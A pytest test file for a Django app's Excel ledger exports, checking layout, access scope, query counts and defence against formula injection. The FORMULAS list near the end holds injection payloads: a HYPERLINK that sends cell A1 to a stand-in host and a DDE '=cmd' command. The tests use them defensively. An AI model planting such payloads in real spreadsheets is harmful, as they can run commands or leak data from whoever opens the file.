"""Exported ledgers: laid out for filing, and holding only what their reader may see."""

from datetime import date, datetime, timedelta

import pytest
from django.core.exceptions import PermissionDenied
from django.utils import timezone
from openpyxl import Workbook

from zongzhi.accounts.rules import Role
from zongzhi.cases import services as case_services
from zongzhi.cases.models import Case, Party
from zongzhi.cases.rules import Status
from zongzhi.cases.tests.factories import case_in, registered
from zongzhi.conftest import Cast, make_user
from zongzhi.hazards import services as hazard_services
from zongzhi.ledgers import layout
from zongzhi.ledgers.columns import CASE_COLUMNS, HAZARD_COLUMNS, SCREENING_COLUMNS, H
from zongzhi.ledgers.exports import Register, export_ledger
from zongzhi.ledgers.reading import normalise_header
from zongzhi.ledgers.tests.factories import HEADERS, LABELS, campaign, hazard, open_sheet
from zongzhi.screening import services as screening
from zongzhi.screening.models import ScreeningReport

TODAY = timezone.localdate


def export(cast: Cast, register: Register, *, user=None, region=None, start=None, end=None):  # type: ignore[no-untyped-def]
    return export_ledger(
        by=user or cast.by_role[Role.INTAKE_OFFICER],
        register=register,
        region=region or cast.places.t1,
        start=start or TODAY() - timedelta(days=30),
        end=end or TODAY(),
    )


def column(ws, header: str) -> list[object]:  # type: ignore[no-untyped-def]
    """The data cells of the column named `header`."""
    headers = [normalise_header(c.value) for c in ws[layout.HEADER_ROW]]
    index = headers.index(header) + 1
    return [ws.cell(row, index).value for row in range(layout.FIRST_DATA_ROW, ws.max_row + 1)]


def test_the_hazard_ledger_is_laid_out_for_filing(cast: Cast) -> None:
    found = hazard(cast, discovered_on=TODAY() - timedelta(days=3), amount=45000)
    hazard_services.hazard_add_measure(
        by=cast.by_role[Role.INTAKE_OFFICER],
        hazard=found,
        content="约谈施工方",
        owner="张三",
        due_on=TODAY() + timedelta(days=10),
    )
    start, end = date(TODAY().year, 1, 1), TODAY()
    ws = open_sheet(export(cast, Register.HAZARDS, start=start, end=end).content)

    last = chr(ord("A") + len(HAZARD_COLUMNS) - 1)
    assert ws["A1"].value == "华宁县宁州街道风险隐患台账"
    assert f"A1:{last}1" in {str(r) for r in ws.merged_cells.ranges}
    assert ws["A1"].alignment.horizontal == "center" and ws["A1"].font.bold
    info = ws["A2"].value
    assert info.startswith("填报单位：华宁县宁州街道")
    assert f"统计期间：{start.year}年1月1日至{end.year}年{end.month}月{end.day}日" in info
    assert "导出时间：" in info and "共1条" in info
    assert [c.value for c in ws[3]] == LABELS
    assert "涉及金额\n（元）" in LABELS and normalise_header("涉及金额\n（元）") == H.AMOUNT
    assert all(c.font.bold and c.fill.fgColor.rgb.endswith("D9E1F2") for c in ws[3])
    assert ws.freeze_panes == "A4"
    assert ws.auto_filter.ref == f"A3:{last}4"

    discovered = ws.cell(4, HEADERS.index(H.DISCOVERED) + 1)
    assert isinstance(discovered.value, datetime)
    assert discovered.value.date() == found.discovered_on
    assert discovered.number_format == "yyyy-mm-dd"
    amount = ws.cell(4, HEADERS.index(H.AMOUNT) + 1)
    assert amount.value == 45000 and amount.number_format == "#,##0.00"
    assert ws.cell(4, HEADERS.index(H.REGION_CODE) + 1).value == cast.places.v1.code
    assert column(ws, H.MEASURES) == [
        f"1. 约谈施工方（落实人：张三；时限：{TODAY() + timedelta(days=10):%Y-%m-%d}）"
    ]
    assert ws.cell(4, HEADERS.index(H.MEASURES) + 1).alignment.wrap_text
    assert all(c.border.left.style == "thin" for c in ws[4])
    # Rows are as tall as their longest wrapped cell; the header fits its two-line labels.
    assert ws.row_dimensions[4].height >= 2 * layout.LINE_HEIGHT
    assert ws.row_dimensions[3].height >= 2 * layout.LINE_HEIGHT

    for index, spec in enumerate(HAZARD_COLUMNS, start=1):
        assert ws.column_dimensions[chr(ord("A") + index - 1)].width == spec.width
    assert ws.page_setup.orientation == "landscape"
    assert str(ws.page_setup.paperSize) == ws.PAPERSIZE_A4 == "9"
    assert ws.page_setup.fitToWidth == 1 and ws.page_setup.fitToHeight == 0
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    assert ws.print_title_rows == "$3:$3"


def test_the_case_ledger_lists_counted_cases_with_their_applicants(cast: Cast) -> None:
    done = case_in(cast, Status.VISITED, amount=3000)
    case_in(cast, Status.MERGED)  # two cases, one merged into the other: counted once
    ws = open_sheet(export(cast, Register.CASES).content)

    assert ws["A1"].value == "华宁县宁州街道矛盾纠纷排查化解台账"
    assert [c.value for c in ws[3]] == [c.label for c in CASE_COLUMNS]
    codes = column(ws, "查询码")
    merged = Case.objects.get(status=Status.MERGED)
    assert done.code in codes and merged.code not in codes and len(codes) == 2
    row = codes.index(done.code) + layout.FIRST_DATA_ROW
    values = {c.header: ws.cell(row, i).value for i, c in enumerate(CASE_COLUMNS, start=1)}
    assert values["当事人"] == "张三"
    assert values["简要情况"] == done.description  # beside the title: what search finds
    assert values["一级分类"] == "邻里纠纷" and values["二级分类"] == "相邻关系"
    assert values["主办单位"] == "宁州派出所"
    assert values["回访满意度"] == "满意"
    assert values["办结结果"] == "调解成功"
    assert values["涉及金额（元）"] == 3000
    assert values["登记日期"].date() == TODAY()
    assert ws.cell(row, 3).number_format == "yyyy-mm-dd"
    assert values["办结日期"].date() == done.closed_on


def test_a_ledger_holds_nothing_outside_its_readers_scope(cast: Cast) -> None:
    mine = hazard(cast, title="宁州街道的隐患")
    hazard(
        cast,
        by=cast.outsider,
        title="盘溪镇的隐患",
        region=cast.places.v2,
        responsible_unit=cast.units.t2_station,
    )
    registered(cast, title="宁州街道的事项")
    case_services.case_register(
        by=cast.outsider,
        new=case_services.NewCase(
            channel=Case.Channel.VISIT,
            category=mine.category,
            title="盘溪镇的事项",
            description="盘溪镇的事项",
            region=cast.places.g2,
            parties=[case_services.NewParty(role="applicant", name="赵六")],
        ),
    )
    county = cast.places.county
    hazards = open_sheet(export(cast, Register.HAZARDS).content)
    assert column(hazards, H.TITLE) == ["宁州街道的隐患"]
    cases = open_sheet(export(cast, Register.CASES).content)
    assert column(cases, "事项标题") == ["宁州街道的事项"]
    # The county ledger is not theirs to export; the county's own officer sees both.
    with pytest.raises(PermissionDenied):
        export(cast, Register.HAZARDS, region=county)
    county_officer = make_user("county_intake", Role.INTAKE_OFFICER, region=county)
    both = open_sheet(export(cast, Register.HAZARDS, user=county_officer, region=county).content)
    assert sorted(column(both, H.TITLE)) == ["宁州街道的隐患", "盘溪镇的隐患"]
    assert both["A1"].value == "华宁县风险隐患台账"


def test_a_units_handler_exports_only_the_cases_on_their_unit(cast: Cast) -> None:
    on_unit = case_in(cast, Status.DISPATCHED, title="派给派出所的事项")
    registered(cast, title="还在中心的事项")
    ws = open_sheet(export(cast, Register.CASES, user=cast.by_role[Role.UNIT_HANDLER]).content)
    assert column(ws, "查询码") == [on_unit.code]
    assert ws["A2"].value.startswith("填报单位：宁州派出所")


def test_the_hazard_ledger_lists_what_was_on_the_register_in_the_period(cast: Cast) -> None:
    keeper = cast.by_role[Role.INTAKE_OFFICER]
    hazard(cast, title="仍在管控", discovered_on=TODAY() - timedelta(days=40))
    closed = hazard(cast, title="今天化解", discovered_on=TODAY() - timedelta(days=40))
    hazard_services.hazard_resolve(by=keeper, hazard=closed, note="已支付")
    later = TODAY() + timedelta(days=1)
    ws = open_sheet(export(cast, Register.HAZARDS, start=later, end=later).content)
    assert column(ws, H.TITLE) == ["仍在管控"]  # closed before the period began
    ws = open_sheet(export(cast, Register.HAZARDS, start=TODAY(), end=TODAY()).content)
    titles = column(ws, H.TITLE)
    assert sorted(titles) == ["今天化解", "仍在管控"]
    closed_row = titles.index("今天化解")
    assert column(ws, H.STATUS)[closed_row] == "已化解"
    assert column(ws, H.CLOSED)[closed_row].date() == TODAY()


def test_the_screening_ledger_says_who_reported_on_time_late_or_not_at_all(cast: Cast) -> None:
    worker = cast.by_role[Role.GRID_WORKER]
    past = campaign(cast.places.t1, start=TODAY() - timedelta(days=10), title="上旬排查")
    current = campaign(cast.places.t1, start=TODAY(), title="本旬排查")
    missing = campaign(cast.places.t1, start=TODAY() - timedelta(days=12), title="漏报排查")
    campaign(cast.places.t2, start=TODAY(), title="盘溪镇排查")
    screening.file_report(
        by=worker, report=ScreeningReport.objects.get(round=past), zero=True, note="无"
    )
    screening.file_report(by=worker, report=ScreeningReport.objects.get(round=current), zero=True)
    ws = open_sheet(
        export(cast, Register.SCREENING, start=TODAY() - timedelta(days=20), end=TODAY()).content
    )
    assert [c.value for c in ws[3]] == [c.label for c in SCREENING_COLUMNS]
    rows = {
        ws.cell(r, 2).value: [ws.cell(r, c).value for c in range(1, 14)]
        for r in range(4, ws.max_row + 1)
    }
    assert set(rows) == {"上旬排查", "本旬排查", "漏报排查"}  # not 盘溪镇's
    assert rows["上旬排查"][6] == "逾期" and rows["上旬排查"][8] == "是"
    assert rows["本旬排查"][6] == "按时" and rows["本旬排查"][9] == 0
    assert rows["漏报排查"][6] == "未上报" and rows["漏报排查"][7] is None
    assert rows["上旬排查"][5] == "右所社区第1网格"
    assert ws.cell(4, 5).number_format == "yyyy-mm-dd"
    assert missing.title == "漏报排查"


@pytest.mark.parametrize("register", list(Register))
def test_exporting_takes_the_same_few_queries_however_many_rows(
    cast: Cast, register: Register, django_assert_max_num_queries
) -> None:  # type: ignore[no-untyped-def]
    for n in range(6):
        found = hazard(cast, title=f"隐患{n}")
        hazard_services.hazard_add_measure(
            by=cast.by_role[Role.INTAKE_OFFICER],
            hazard=found,
            content="走访",
            owner="张三",
            due_on=TODAY() + timedelta(days=3),
        )
        case_in(cast, Status.IN_PROGRESS, title=f"事项{n}")
        campaign(cast.places.t1, start=TODAY() - timedelta(days=n), title=f"排查{n}")
    user = cast.by_role[Role.LEADER]
    with django_assert_max_num_queries(7):  # and its audit entry
        ledger = export(cast, register, user=user)
    assert ledger.count >= 6


# What a resident can type that a spreadsheet would run: a formula, a DDE command, a
# function call behind @, and the tab and carriage return that start one in some readers.
FORMULAS = [
    '=HYPERLINK("http://example.invalid/?q="&A1,"点此查看")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_typed_by_a_resident_stays_text_in_the_ledger(cast: Cast, text: str) -> None:
    case_in(
        cast,
        Status.VISITED,
        title=text,
        parties=[case_services.NewParty(role=Party.Role.APPLICANT, name=text, phone="")],
    )
    ws = open_sheet(export(cast, Register.CASES).content)

    cells = [c for row in ws.iter_rows(min_row=layout.FIRST_DATA_ROW) for c in row]
    written = [c for c in cells if c.value == text]
    assert len(written) == 2  # the title and the applicant
    for cell in written:
        assert cell.data_type == "s"
        assert cell.quotePrefix  # shown as text, and still text after editing
    assert not any(c.data_type == "f" for c in cells)


@pytest.mark.parametrize("text", ["\t=1+1", "\r=1+1", *FORMULAS])
def test_every_cell_that_could_start_a_formula_is_written_as_text(text: str) -> None:
    # Registration strips a title's surrounding space; the sheet must not rely on that.
    ws = Workbook().create_sheet()
    cell = layout.put(ws, 1, 1, text)
    assert cell.data_type == "s" and cell.quotePrefix and cell.value == text


def test_ordinary_text_and_numbers_are_written_as_they_are(cast: Cast) -> None:
    case_in(cast, Status.VISITED, title="邻居占道堆放杂物", amount=3000)
    ws = open_sheet(export(cast, Register.CASES).content)

    row = column(ws, "事项标题").index("邻居占道堆放杂物") + layout.FIRST_DATA_ROW
    title = ws.cell(row, [c.header for c in CASE_COLUMNS].index("事项标题") + 1)
    amount = ws.cell(row, [c.header for c in CASE_COLUMNS].index("涉及金额（元）") + 1)
    assert not title.quotePrefix
    assert amount.value == 3000 and amount.data_type == "n"
